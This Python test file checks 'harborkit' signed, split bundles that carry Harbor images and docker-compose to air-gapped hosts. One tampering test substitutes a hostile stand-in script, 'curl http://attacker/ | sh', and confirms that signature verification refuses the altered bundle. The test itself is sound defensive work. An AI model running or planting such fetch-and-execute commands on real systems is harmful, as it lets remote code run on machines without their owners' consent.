"""Signed bundles in parts carrying docker-compose: build, carry, check with plain tools, load.

Two private dockerds stand in for the connected build host and the air-gapped
target; docker-compose is a stand-in served (with its upstream-style checksum
file) from a loopback HTTP server.
"""

from __future__ import annotations

import hashlib
import io
import json
import shutil
import stat
import subprocess
import tarfile
from dataclasses import dataclass
from pathlib import Path

import pytest

from harborkit.bundle.format import SUMS_NAME
from harborkit.bundle.sbom import SBOM_NAME, validate_sbom
from harborkit.bundle.sign import SIGNATURE_NAME
from harborkit.errors import ExitCode
from tests.bundle.conftest import INSTALLER_NAME, REPO, BuildHost, HttpServer, image_list, run_cli
from tests.support.bundles import rewrite_bundle
from tests.support.dockerd import Daemon

IMAGES = ("goharbor/prepare:v1.8.0", "goharbor/harbor-core:v1.8.0", "goharbor/harbor-log:v1.8.0")
COMPOSE = b"#!/bin/sh\necho 'docker-compose version 1.24.0, build 0aa59064'\n"
COMPOSE_NAME = "docker-compose-Linux-x86_64"
PART = "300KB"  # the test bundle is ~1.3 MB: several parts


def _line(stderr: str) -> str:
    lines = [ln for ln in stderr.splitlines() if ln.strip()]
    assert len(lines) == 1, stderr
    return lines[0]


@pytest.fixture(scope="module")
def compose_url(http_server: HttpServer) -> str:
    http_server.files[f"/compose/{COMPOSE_NAME}"] = COMPOSE
    digest = hashlib.sha256(COMPOSE).hexdigest()
    http_server.files[f"/compose/{COMPOSE_NAME}.sha256"] = f"{digest}  {COMPOSE_NAME}\n".encode()
    return f"{http_server.url}/compose/{COMPOSE_NAME}"


def manifest_text(
    http_server: HttpServer, compose_url: str, images: tuple[str, ...] = IMAGES
) -> str:
    return (
        "harbor_version: v1.8.0\n"
        f"images: [{', '.join(images)}]\n"
        f"installer: {{name: {INSTALLER_NAME}, url: '{http_server.url}/{INSTALLER_NAME}'}}\n"
        "files:\n"
        "  - name: docker-compose\n"
        f"    url: {compose_url}\n"
        f"    sha256_url: {compose_url}.sha256\n"
        "    install_path: /usr/local/bin/docker-compose\n"
        "    mode: '0755'\n"
    )


@dataclass(frozen=True)
class Signed:
    """A signed bundle in parts, its key pair and a second key."""

    dir: Path
    bundle: Path  # NAME (not written: the parts are)
    key: Path
    pub: Path
    other_pub: Path
    key_id: str

    @property
    def first(self) -> Path:
        return self.bundle.with_name(self.bundle.name + ".part-000")

    def parts(self) -> list[Path]:
        return sorted(self.dir.glob(self.bundle.name + ".part-*"))


@pytest.fixture(scope="module")
def signed(
    build_host: BuildHost,
    http_server: HttpServer,
    compose_url: str,
    tmp_path_factory: pytest.TempPathFactory,
) -> Signed:
    d = tmp_path_factory.mktemp("signed")
    r = run_cli("bundle", "keygen", "-o", str(d / "site.key"), "--no-password")
    assert r.returncode == 0, r.stderr
    key_id = r.stdout.split("key id ")[1].split(")")[0]
    assert run_cli("bundle", "keygen", "-o", str(d / "other.key"), "--no-password").returncode == 0
    m = d / "m.yaml"
    m.write_text(manifest_text(http_server, compose_url))
    out = d / "hb.tar"
    r = run_cli(
        "bundle", "build", "--no-pull", "-m", str(m), "--sign", str(d / "site.key"),
        "--split-size", PART, "-o", str(out), env=build_host.daemon.env(),
    )  # fmt: skip
    assert r.returncode == 0, r.stderr
    assert f"signed SHA256SUMS with key {key_id}" in r.stdout
    assert not out.exists()
    return Signed(d, out, d / "site.key", d / "site.key.pub", d / "other.key.pub", key_id)


def _carry(signed: Signed, dest: Path) -> Path:
    """Copy the parts and the parts list as removable media would carry them."""
    dest.mkdir()
    for p in [*signed.parts(), signed.bundle.with_name("hb.tar.parts.sha256")]:
        shutil.copy2(p, dest / p.name)
    return dest / "hb.tar.part-000"


def test_parts_and_signature_check_with_plain_tools(signed: Signed, tmp_path: Path) -> None:
    parts = signed.parts()
    assert len(parts) >= 4
    assert all(p.stat().st_size == 300_000 for p in parts[:-1])
    d = signed.dir
    r = subprocess.run(
        ["sha256sum", "-c", "hb.tar.parts.sha256"], cwd=d, capture_output=True, text=True
    )
    assert r.returncode == 0, r.stdout + r.stderr
    joined = tmp_path / "hb.tar"
    with open(joined, "wb") as out:
        subprocess.run(["cat", *map(str, parts)], stdout=out, check=True)
    x = tmp_path / "x"
    x.mkdir()
    subprocess.run(["tar", "-xf", str(joined), "-C", str(x)], check=True)
    r = subprocess.run(["sha256sum", "-c", SUMS_NAME], cwd=x, capture_output=True, text=True)
    assert r.returncode == 0, r.stdout + r.stderr
    assert "files/docker-compose: OK" in r.stdout and f"{SBOM_NAME}: OK" in r.stdout
    r = subprocess.run(
        ["minisign", "-Vm", SUMS_NAME, "-p", str(signed.pub)], cwd=x, capture_output=True, text=True
    )
    assert r.returncode == 0, r.stderr
    assert "Signature and comment signature verified" in r.stdout
    r = subprocess.run(
        ["minisign", "-Vm", SUMS_NAME, "-p", str(signed.other_pub)],
        cwd=x,
        capture_output=True,
        text=True,
    )
    assert r.returncode == 1
    # the joined file is the bundle harborkit reads too
    r = run_cli("bundle", "verify", str(joined), "--key", str(signed.pub))
    assert r.returncode == 0, r.stderr


@pytest.mark.parametrize("given", ["hb.tar.part-000", "hb.tar.parts.sha256"])
def test_verify_reads_across_parts_with_the_key(signed: Signed, given: str) -> None:
    r = run_cli("bundle", "verify", str(signed.dir / given), "--key", str(signed.pub))
    assert r.returncode == 0, r.stderr
    assert r.stdout.strip().endswith(f"3 images, signature by key {signed.key_id} verified)")
    r = run_cli("bundle", "verify", str(signed.dir / given))
    assert r.stdout.strip().endswith(f"signed by key {signed.key_id} (not checked: give --key))")


def test_a_signature_by_another_key_is_refused(signed: Signed) -> None:
    other_id = run_cli("bundle", "verify", str(signed.first), "--key", str(signed.other_pub))
    assert other_id.returncode == ExitCode.SIGNATURE
    pub_line = signed.other_pub.read_text().split("key ")[1].split()[0]
    assert _line(other_id.stderr) == (
        f"harborkit: error: bundle {signed.first}: {SIGNATURE_NAME} is signed by key "
        f"{signed.key_id}, not by the given key {pub_line}"
    )


def test_an_unsigned_bundle_is_refused_with_a_key(built_bundle: Path, signed: Signed) -> None:
    r = run_cli("bundle", "verify", str(built_bundle), "--key", str(signed.pub))
    assert r.returncode == ExitCode.SIGNATURE
    assert _line(r.stderr) == (
        f"harborkit: error: bundle {built_bundle} is not signed (no {SIGNATURE_NAME}); "
        f"it cannot be checked against key {signed.key_id}"
    )


def _members(path: Path) -> list[tuple[tarfile.TarInfo, bytes]]:
    with tarfile.open(path) as tf:
        return [(ti, tf.extractfile(ti).read()) for ti in tf if ti.isreg()]  # type: ignore[union-attr]


def test_tampered_sums_with_a_valid_looking_signature_is_refused(
    signed: Signed, tmp_path: Path
) -> None:
    """Swap docker-compose for other bytes and fix SHA256SUMS: checksums agree, the signature not."""
    joined = tmp_path / "hb.tar"
    joined.write_bytes(b"".join(p.read_bytes() for p in signed.parts()))
    evil = b"#!/bin/sh\ncurl http://attacker/ | sh\n"
    members = _members(joined)
    out: list[tuple[tarfile.TarInfo, bytes]] = []
    for ti, data in members:
        if ti.name == "files/docker-compose":
            data = evil
        elif ti.name == SUMS_NAME:
            data = data.replace(
                hashlib.sha256(COMPOSE).hexdigest().encode(),
                hashlib.sha256(evil).hexdigest().encode(),
            )
        out.append((ti, data))
    meta = next(d for ti, d in out if ti.name == "harbor-bundle.json")
    doc = json.loads(meta)
    doc["files"][0]["sha256"] = hashlib.sha256(evil).hexdigest()
    doc["files"][0]["size"] = len(evil)
    new_meta = json.dumps(doc).encode()
    out = [(ti, new_meta if ti.name == "harbor-bundle.json" else d) for ti, d in out]
    # the SBOM names the file's sha256 too (verify checks that it agrees with the metadata)
    old_sha, new_sha = hashlib.sha256(COMPOSE).hexdigest(), hashlib.sha256(evil).hexdigest()
    out = [
        (ti, d.replace(old_sha.encode(), new_sha.encode()) if ti.name == SBOM_NAME else d)
        for ti, d in out
    ]
    sums = "".join(
        f"{hashlib.sha256(d).hexdigest()}  {ti.name}\n"
        for ti, d in out
        if ti.isreg() and ti.name not in (SUMS_NAME, SIGNATURE_NAME)
    ).encode()
    out = [(ti, sums if ti.name == SUMS_NAME else d) for ti, d in out]
    tampered = tmp_path / "tampered.tar"
    with tarfile.open(tampered, "w", format=tarfile.GNU_FORMAT) as tf:
        for ti, data in out:
            ti.size = len(data)
            tf.addfile(ti, io.BytesIO(data))
    assert run_cli("bundle", "verify", str(tampered)).returncode == 0  # checksums alone agree
    r = run_cli("bundle", "verify", str(tampered), "--key", str(signed.pub))
    assert r.returncode == ExitCode.SIGNATURE
    assert _line(r.stderr) == (
        f"harborkit: error: bundle {tampered}: {SIGNATURE_NAME} does not match the signed data: "
        "it was altered after signing"
    )


def test_missing_swapped_and_truncated_parts_are_named(signed: Signed, tmp_path: Path) -> None:
    first = _carry(signed, tmp_path / "missing")
    (first.parent / "hb.tar.part-002").unlink()
    r = run_cli("bundle", "verify", str(first))
    assert r.returncode == ExitCode.BUNDLE_CORRUPT
    assert (
        _line(r.stderr)
        == f"harborkit: error: bundle {first.parent / 'hb.tar'}: missing part hb.tar.part-002"
    )

    first = _carry(signed, tmp_path / "swapped")
    a, b = first.parent / "hb.tar.part-001", first.parent / "hb.tar.part-002"
    da, db = a.read_bytes(), b.read_bytes()
    a.write_bytes(db)
    b.write_bytes(da)
    r = run_cli("bundle", "verify", str(first))
    assert r.returncode == ExitCode.BUNDLE_CORRUPT
    assert _line(r.stderr).startswith(
        f"harborkit: error: bundle {first} is corrupt: parts hb.tar.part-001 and hb.tar.part-002 "
        "are swapped or copied over each other (each holds the other's bytes); "
    )

    first = _carry(signed, tmp_path / "truncated")
    with open(first.parent / "hb.tar.part-001", "r+b") as f:
        f.truncate(299_000)
    r = run_cli("bundle", "load", str(first))
    assert r.returncode == ExitCode.BUNDLE_CORRUPT
    assert _line(r.stderr) == (
        f"harborkit: error: bundle {first.parent / 'hb.tar'}: truncated part hb.tar.part-001 "
        "(the others have 300000 bytes)"
    )


def test_load_from_parts_installs_compose_and_says_the_next_steps(
    signed: Signed, target_daemon: Daemon, build_host: BuildHost, tmp_path: Path
) -> None:
    first = _carry(signed, tmp_path / "usb")
    prefix, opt = tmp_path / "root", tmp_path / "opt"
    r = run_cli(
        "bundle", "load", str(first), "--key", str(signed.pub), "--install-tools",
        "--prefix", str(prefix), "--install-dir", str(opt), env=target_daemon.env(),
    )  # fmt: skip
    assert r.returncode == 0, r.stderr
    want = {img.tags[0]: img.id for img in build_host.images if img.tags[0] in IMAGES}
    assert {t: i for t, i in image_list(target_daemon).items() if t in IMAGES} == want
    compose = prefix / "usr/local/bin/docker-compose"
    assert compose.read_bytes() == COMPOSE
    assert stat.S_IMODE(compose.stat().st_mode) == 0o755
    harbor = opt / "harbor"
    assert r.stdout.splitlines()[-6:] == [
        f"docker-compose installed: {compose} (mode 0755)",
        f"installer unpacked: {harbor}",
        "next:",
        f"  1. edit {harbor}/harbor.yml (hostname, https certificate, passwords)",
        f"  2. harborkit check --install-dir {harbor}",
        f"  3. cd {harbor} && ./install.sh",
    ]
    # the installed tool is what `check` looks for (a sysroot: the binary is not run)
    r = run_cli("check", "--root", str(prefix), "--only", "docker.compose", "-f", "json")
    assert r.returncode == 0, r.stdout + r.stderr
    result = json.loads(r.stdout)["results"][0]
    assert (result["id"], result["status"]) == ("docker.compose", "pass")
    assert result["message"] == "docker-compose at /usr/local/bin/docker-compose"

    # again into the same folder: refused, saying how to load only the images
    r = run_cli(
        "bundle", "load", str(first), "--install-tools", "--prefix", str(prefix),
        "--install-dir", str(opt), env=target_daemon.env(),
    )  # fmt: skip
    assert r.returncode == ExitCode.USAGE
    assert _line(r.stderr) == (
        f"harborkit: error: {harbor / 'install.sh'} already exists; not overwriting it: the "
        f"installer was unpacked into {opt} before; to load only the images (and tools), run "
        f"harborkit bundle load {first} without --install-dir"
    )
    r = run_cli(
        "bundle", "load", str(first), "--install-tools", "--prefix", str(prefix),
        env=target_daemon.env(),
    )  # fmt: skip
    assert r.returncode == 0, r.stderr
    assert f"docker-compose already in place: {compose} (mode 0755)" in r.stdout


def test_a_different_existing_compose_is_kept_and_nothing_loaded(
    signed: Signed, fresh_daemon: Daemon, tmp_path: Path
) -> None:
    compose = tmp_path / "usr/local/bin/docker-compose"
    compose.parent.mkdir(parents=True)
    compose.write_bytes(b"#!/bin/sh\necho docker-compose version 1.18.0\n")
    r = run_cli(
        "bundle", "load", str(signed.first), "--install-tools", "--prefix", str(tmp_path),
        env=fresh_daemon.env(),
    )  # fmt: skip
    assert r.returncode == ExitCode.USAGE
    assert _line(r.stderr) == (
        f"harborkit: error: {compose} exists and differs from the bundle's docker-compose; "
        "not replacing it (--force replaces it)"
    )
    assert image_list(fresh_daemon) == {}
    assert compose.read_bytes() == b"#!/bin/sh\necho docker-compose version 1.18.0\n"


def test_inspect_parts_shows_files_and_prints_the_sbom(signed: Signed) -> None:
    r = run_cli("bundle", "inspect", str(signed.first))
    assert r.returncode == 0, r.stderr
    digest = hashlib.sha256(COMPOSE).hexdigest()
    size = f"{len(COMPOSE)} bytes"  # a small file: its bytes, not "0.0 MB"
    assert (
        f"file       docker-compose ({size}) sha256 {digest} -> /usr/local/bin/docker-compose mode 0755"
        in r.stdout.splitlines()
    )
    assert (
        f"signature  key id {signed.key_id} (check it with verify --key)" in r.stdout.splitlines()
    )
    r = run_cli("bundle", "inspect", "--format", "cyclonedx", str(signed.first))
    assert r.returncode == 0, r.stderr
    doc = validate_sbom(r.stdout.encode())
    refs = {c["bom-ref"] for c in doc["components"]}
    assert refs == {*IMAGES, f"installer/{INSTALLER_NAME}", "files/docker-compose"}


def test_an_sbom_that_fails_its_schema_is_refused(built_bundle: Path, tmp_path: Path) -> None:
    bad = tmp_path / "bad-sbom.tar"
    with tarfile.open(built_bundle) as tf:
        sbom = json.loads(tf.extractfile(SBOM_NAME).read())  # type: ignore[union-attr]
    sbom["components"][0]["type"] = "appliance"
    rewrite_bundle(built_bundle, bad, replace={SBOM_NAME: json.dumps(sbom).encode()})
    r = run_cli("bundle", "verify", str(bad))
    assert r.returncode == ExitCode.USAGE
    assert _line(r.stderr).startswith(
        f"harborkit: error: {bad}: {SBOM_NAME} fails the CycloneDX 1.6 schema at components/0/type: "
        "'appliance' is not one of"
    )


def test_push_explains_a_new_manifest_once(built_bundle: Path) -> None:
    from harborkit.commands.bundle.registry import NEW_MANIFEST_NOTE
    from tests.support.registry import start_registry

    with start_registry() as reg:
        r = run_cli("bundle", "push", str(built_bundle), "--registry", reg.host, "--insecure")
    assert r.returncode == 0, r.stderr
    lines = r.stdout.splitlines()
    pushed = [ln for ln in lines if "@sha256:" in ln]
    assert len(pushed) == 15 and all(ln.endswith(" *") for ln in pushed)
    assert lines.count(NEW_MANIFEST_NOTE) == 1
    assert lines[-2] == NEW_MANIFEST_NOTE


def test_in_a_target_container_compose_check_passes_offline(
    signed: Signed, target_daemon: Daemon, tmp_path: Path
) -> None:
    """Prefix /: inside a container (no network) made from a bundle image, with this host's
    Python and harborkit mounted read-only, load --install-tools puts docker-compose in
    /usr/local/bin and `check --only docker.compose` runs it and passes."""
    import sys

    first = _carry(signed, tmp_path / "usb")
    shutil.copy2(signed.pub, first.parent / "site.key.pub")
    py = Path(sys.executable)
    venv = py.parent.parent
    interpreter = py.resolve().parents[1]  # the Python installation the venv points at
    script = (
        f"{py} -m harborkit bundle load /usb/hb.tar.part-000 --key /usb/site.key.pub "
        "--install-tools -q; echo load=$?; "
        f"{py} -m harborkit check --only docker.compose -f json; echo check=$?"
    )
    # the container is made from an image of the bundle: load the images first (on the host)
    r = run_cli("bundle", "load", str(first), "-q", env=target_daemon.env())
    assert r.returncode == 0, r.stderr
    client = target_daemon.client()
    try:
        client.images.get(IMAGES[0])  # present: containers.run must not try to pull it
        out = client.containers.run(
            IMAGES[0],
            ["/bin/sh", "-c", script],
            network_mode="none",
            remove=True,
            stdout=True,
            stderr=True,
            working_dir=str(REPO),
            environment={"DOCKER_HOST": "unix:///var/run/docker.sock", "HOME": "/tmp"},
            tmpfs={
                "/tmp": "",
                "/usr/local/bin": "exec,mode=755",
            },  # docker makes tmpfs noexec by default
            volumes={
                "/usr": {"bind": "/usr", "mode": "ro"},
                "/lib": {"bind": "/lib", "mode": "ro"},
                "/lib64": {"bind": "/lib64", "mode": "ro"},
                str(interpreter): {"bind": str(interpreter), "mode": "ro"},
                str(REPO): {"bind": str(REPO), "mode": "ro"},
                str(venv.resolve()): {"bind": str(venv.resolve()), "mode": "ro"},
                str(first.parent): {"bind": "/usb", "mode": "ro"},
                str(target_daemon.socket_path): {"bind": "/var/run/docker.sock", "mode": "rw"},
            },
        )
    finally:
        client.close()
    text = out.decode()
    assert text.startswith("load=0\n") and text.endswith("check=0\n"), text
    report = json.loads(text[len("load=0\n") : -len("check=0\n")])
    result = report["results"][0]
    assert (result["id"], result["status"]) == ("docker.compose", "pass")
    assert result["message"] == "docker-compose 1.24.0 at /usr/local/bin/docker-compose"


_COUNT_LOADS = """
import atexit, runpy, sys
import harborkit.bundle.manifest as m
loads = []
real = m.load_manifest
def counted(*a, **k):
    loads.append(a)
    return real(*a, **k)
m.load_manifest = counted
atexit.register(lambda: print(f"MANIFEST-LOADS {len(loads)}", file=sys.stderr))
sys.argv = ["harborkit", *sys.argv[1:]]
runpy.run_module("harborkit", run_name="__main__")
"""


@pytest.mark.parametrize(
    ("source", "env"),
    [
        ([], {"DOCKER_HOST": "unix:///nonexistent/docker.sock"}),  # from the daemon
        (["--from", "registry://127.0.0.1:9"], {}),  # from a registry (nothing listens)
    ],
    ids=["daemon", "registry"],
)
@pytest.mark.parametrize("extra", [[], ["--no-tools"], ["--split-size", "64M"]])
def test_a_build_parses_its_manifest_once(
    tmp_path: Path, source: list[str], env: dict[str, str], extra: list[str]
) -> None:
    """The options are checked against the manifest, and the build uses that same parse
    (it was read and validated twice): one read, whichever way the build goes."""
    import os
    import sys

    r = subprocess.run(
        [sys.executable, "-c", _COUNT_LOADS, "bundle", "build", "-q",
         "-o", str(tmp_path / "b.tar"), *source, *extra],
        capture_output=True, text=True, timeout=120,
        env={**os.environ, **env, "HARBORKIT_REGISTRY_DEADLINE": "5"},
    )  # fmt: skip
    assert r.returncode != 0  # neither a daemon nor a registry is there
    assert "Traceback" not in r.stderr
    assert "MANIFEST-LOADS 1" in r.stderr.splitlines()
    assert not (tmp_path / "b.tar").exists()
